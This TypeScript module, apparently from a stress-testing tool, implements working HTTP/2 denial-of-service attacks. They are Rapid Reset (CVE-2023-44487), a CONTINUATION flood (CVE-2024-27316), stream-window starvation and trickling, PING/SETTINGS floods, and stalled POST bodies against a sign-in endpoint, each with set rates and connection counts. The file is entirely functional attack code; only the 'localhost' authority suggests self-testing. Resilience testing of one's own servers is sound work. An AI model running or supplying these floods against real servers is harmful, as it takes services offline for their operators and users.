import { encodeFrame, flags, frameTypes, greeting, headerBlock, settingIds } from '../protocols/http2-frames.ts';
import { type Attack, every, keepOpen } from './attack.ts';

const get = (path: string, method = 'GET'): Buffer =>
  headerBlock([
    [':method', method],
    [':scheme', 'https'],
    [':authority', 'localhost'],
    [':path', path],
    ['accept-encoding', 'identity'],
  ]);

const headers = (stream: number, payload: Buffer, bits: number = flags.endHeaders | flags.endStream): Buffer =>
  encodeFrame({ type: frameTypes.headers, flags: bits, stream, payload });

const reset = (stream: number): Buffer =>
  encodeFrame({ type: frameTypes.resetStream, flags: 0, stream, payload: Buffer.from([0, 0, 0, 8]) });

/** Opens streams and resets them at once, 2,000 a second on each connection, until it is cut off (CVE-2023-44487). */
export const rapidReset: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 4 }, (socket, tally) => {
    socket.resume();
    socket.write(greeting());
    const block = get('/api/openapi.json');
    let stream = 1;
    every(20, socket, () => {
      const frames: Buffer[] = [];
      for (let index = 0; index < 40; index++, stream += 2) frames.push(headers(stream, block), reset(stream));
      tally.sent += 40;
      socket.write(Buffer.concat(frames));
    });
  });

/** A header block that never ends: one CONTINUATION after another (CVE-2024-27316). */
export const continuationFlood: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 20 }, (socket, tally) => {
    socket.resume();
    socket.write(greeting());
    socket.write(headers(1, get('/'), 0));
    const payload = headerBlock(Array.from({ length: 14 }, (_, index) => [`x-${index}`, 'a'.repeat(1_000)]));
    const frame = encodeFrame({ type: frameTypes.continuation, flags: 0, stream: 1, payload });
    every(10, socket, () => {
      tally.sent++;
      socket.write(frame);
    });
  });

/** Requests a document on 250 streams of each of 26 connections, and never opens a window for the responses. */
export const closedWindows: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 26 }, (socket, tally) => {
    socket.resume();
    socket.write(greeting([[settingIds.initialWindowSize, 0]]));
    const block = get('/api/openapi.json');
    const streams = Array.from({ length: 250 }, (_, index) => headers(index * 2 + 1, block));
    tally.sent += streams.length;
    socket.write(Buffer.concat(streams));
  });

/** Requests a document on many streams and opens their windows one byte at a time. */
export const trickledWindows: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 10 }, (socket, tally) => {
    socket.resume();
    socket.write(greeting([[settingIds.initialWindowSize, 0]]));
    const block = get('/api/openapi.json');
    const streams = Array.from({ length: 60 }, (_, index) => index * 2 + 1);
    socket.write(Buffer.concat(streams.map((stream) => headers(stream, block))));
    const payload = Buffer.from([0, 0, 0, 1]);
    const updates = Buffer.concat(
      streams.map((stream) => encodeFrame({ type: frameTypes.windowUpdate, flags: 0, stream, payload })),
    );
    every(100, socket, () => {
      tally.sent += streams.length;
      socket.write(updates);
    });
  });

/** Endless PING and SETTINGS frames whose acknowledgements are never read (CVE-2019-9512, CVE-2019-9515). */
export const controlFlood: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 10 }, (socket, tally) => {
    socket.pause();
    socket.write(greeting());
    const ping = encodeFrame({ type: frameTypes.ping, flags: 0, stream: 0, payload: Buffer.alloc(8) });
    const settings = encodeFrame({ type: frameTypes.settings, flags: 0, stream: 0, payload: Buffer.alloc(0) });
    const many = Buffer.concat(Array.from({ length: 200 }, (_, index) => (index % 2 === 0 ? ping : settings)));
    every(20, socket, () => {
      tally.sent += 200;
      socket.write(many);
    });
  });

/** 100 POSTs on each connection whose bodies never arrive, and 100 more every 40 s. */
export const missingBodies: Attack = (options) =>
  keepOpen(options, { protocol: 'h2', count: 20 }, (socket, tally) => {
    socket.resume();
    socket.write(greeting());
    const block = get('/api/v1/auth/sign-in', 'POST');
    let stream = 1;
    const post = (): void => {
      const frames: Buffer[] = [];
      for (let index = 0; index < 100; index++, stream += 2) frames.push(headers(stream, block, flags.endHeaders));
      tally.sent += frames.length;
      socket.write(Buffer.concat(frames));
    };
    post();
    every(40_000, socket, post);
  });
